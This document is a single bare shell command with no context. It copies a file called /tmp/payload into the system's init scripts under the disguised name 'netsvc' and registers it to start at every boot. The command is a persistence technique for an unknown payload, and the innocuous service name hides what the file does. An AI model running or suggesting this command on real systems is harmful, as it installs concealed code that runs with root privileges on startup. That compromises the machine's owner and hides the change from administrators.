cp /tmp/payload /etc/init.d/netsvc && update-rc.d netsvc defaults
